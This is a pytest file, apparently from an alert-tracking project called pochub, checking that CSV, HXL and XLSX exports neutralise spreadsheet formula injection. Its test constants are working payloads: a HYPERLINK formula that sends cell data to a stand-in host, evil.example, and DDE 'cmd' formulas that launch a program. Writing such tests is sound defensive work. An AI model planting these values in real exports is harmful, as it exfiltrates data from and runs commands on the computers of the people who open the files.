"""Exports never carry a live formula: CSV and XLSX cells from data that start with =, +, -, @, tab or CR are
written with a leading apostrophe (the review's `=HYPERLINK(...)` in a CSV export and an imported actor name that
became a formula in the XLSX threat matrix). Both backends."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import Engine, update

from pochub.config import Settings
from pochub.core.models.access import Role, User
from pochub.core.models.alerts import Channel, Report
from pochub.core.models.filters import AlertFilter
from pochub.core.workflow.lifecycle import SYSTEM, Actor
from pochub.documents.spreadsheet_cells import FORMULA_STARTS, neutralised
from pochub.services.alert_views import export_alerts
from pochub.services.alerts import receive_report
from pochub.store import tables
from tests.conftest import CliRunner

SECRET = "test secret key, not for production use"
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
ACTOR = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
    assert neutralised(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["-5.25", "+3", "-1e-3", "12", "", "Kobe", "a=b", 7, -2.5, None])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert neutralised(value) == value


@pytest.fixture(scope="module")
def poisoned(demo_engine: Engine) -> Engine:
    """The demo mission with every event's notes a link formula and its first actor a command formula."""
    with demo_engine.begin() as conn:
        conn.execute(update(tables.events).values(notes=LINK, actor1=ACTOR))
    return demo_engine


def _url(engine: Engine) -> str:
    return engine.url.render_as_string(hide_password=False)


def test_event_csv_exports_neutralise_formulas(poisoned: Engine, cli: CliRunner, tmp_path: Path) -> None:
    for fmt in ("csv", "hxl"):
        path = tmp_path / f"events-{fmt}.csv"
        result = cli("--database", _url(poisoned), "export", "events", "--format", fmt, "-o", path)
        assert result.code == 0, result.err
        rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
        if fmt == "hxl":
            rows = rows[1:]  # the hashtag row
        assert rows
        assert {row["notes"] for row in rows} == {"'" + LINK}
        assert {row["actor1"] for row in rows} == {"'" + ACTOR}
        for row in rows:  # coordinates (negative ones too) stay numbers
            float(row["latitude"]), float(row["longitude"])


def test_the_xlsx_threat_matrix_holds_no_formula(poisoned: Engine, cli: CliRunner, tmp_path: Path) -> None:
    path = tmp_path / "matrix.xlsx"
    result = cli("--database", _url(poisoned), "assess", "-o", path)
    assert result.code == 0, result.err
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        strings = (
            archive.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in archive.namelist()
            else ""
        )
    assert sheets
    assert not any(re.search(r"<f[ >]", sheet) for sheet in sheets), "a cell holds a formula"
    assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings  # the evidence notes, as text


def test_the_alert_csv_export_neutralises_formulas(poisoned: Engine) -> None:
    settings = Settings(database_url=_url(poisoned), secret_key=SECRET, workers=False)
    now = datetime.now(UTC)
    receive_report(
        poisoned,
        settings,
        Report(
            Channel.SMS,
            "formula-network",
            now - timedelta(minutes=1),
            "Armed men at the market",
            pcode="KT0101",
            alert_network="=cmd|' /C calc'!A0",
        ),
        actor=Actor("gateway", SYSTEM),
        now=now,
    )
    admin = User(user_id=0, username="exporter", role=Role.ADMIN)
    body = export_alerts(poisoned, settings, admin, AlertFilter(), fmt="csv")
    networks = {row["alert_network"] for row in csv.DictReader(io.StringIO(body))}
    assert "'=cmd|' /C calc'!A0" in networks
    assert not any(str(n).startswith(FORMULA_STARTS) for n in networks)
